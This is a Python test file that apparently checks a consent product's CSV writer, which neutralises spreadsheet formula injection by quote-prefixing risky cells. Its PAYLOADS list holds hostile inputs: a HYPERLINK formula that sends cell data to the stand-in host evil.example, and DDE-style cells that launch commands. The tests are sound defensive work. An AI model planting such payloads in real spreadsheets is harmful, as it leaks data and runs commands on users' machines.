"""Every CSV the product writes opens in a spreadsheet as text: no cell is a formula."""

from __future__ import annotations

import csv
import io

import pytest

from consent_gateway.spreadsheet import csv_writer, neutralise
from consent_gateway.stats import stats_csv

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|x",
            "-2+3", "\t=1", "\r=1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_opens_like_a_formula_is_prefixed_with_a_quote(payload):
    assert neutralise(payload) == "'" + payload


def test_other_cells_are_written_as_they_are():
    values = ("Chrome", "", "a=b", 3, -4, 0.5, None)
    assert [neutralise(v) for v in values] == list(values)


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerows([PAYLOADS, ["ok", -1]])
    first, second = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert first == ["'" + p for p in PAYLOADS] and second == ["ok", "-1"]


def test_the_stats_csv_neutralises_a_group_key_from_a_visitor():
    # A row as the stats report gives it: every figure there, hidden ones as None.
    figures = {"decisions": 7, "actions": {}, "opt_in": {}, "gpc_share": None, "impressions": None,
               "no_choice": None, "response_rate": None, "median_ms": None, "suppressed": False}
    row = {"key": PAYLOADS[0], **figures}
    totals = dict(figures)
    text = stats_csv({"group_by": "browser", "purposes": [], "rows": [row], "totals": totals})
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert "'" + PAYLOADS[0] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
